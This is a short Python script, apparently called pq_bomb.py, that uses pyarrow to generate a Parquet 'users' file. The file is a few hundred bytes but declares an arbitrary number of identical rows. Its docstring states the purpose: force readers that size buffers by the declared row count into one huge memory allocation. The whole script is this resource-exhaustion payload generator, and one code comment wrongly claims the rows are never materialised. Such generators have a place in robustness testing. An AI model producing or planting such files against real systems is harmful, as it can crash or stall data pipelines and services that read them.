"""Writes a users part file that declares ROWS rows in a few hundred bytes:
one row group, one data page per column, every value the same (dictionary
of one entry, RLE indexes), so a reader that sizes its buffers by the row
count a file declares allocates ROWS rows at once. Usage: pq_bomb.py OUT ROWS"""
import sys

import pyarrow as pa
import pyarrow.parquet as pq

out, rows = sys.argv[1], int(sys.argv[2])
schema = pa.schema([pa.field('userId', pa.int64(), nullable=False), ('firstName', pa.string()),
                    ('lastName', pa.string()), ('gender', pa.string()), ('level', pa.string())])
cols = [pa.array([7], pa.int64()), pa.array(['Ann']), pa.array(['Lee']), pa.array(['F']), pa.array(['free'])]
one = pa.table(cols, schema=schema)
# the same row repeated, without materialising ROWS rows here
table = pa.concat_tables([one] * 1024)
table = pa.concat_tables([table] * (rows // 1024)).combine_chunks()
pq.write_table(table, out, row_group_size=rows, data_page_size=1 << 30, use_dictionary=True,
               compression='snappy', write_statistics=False)
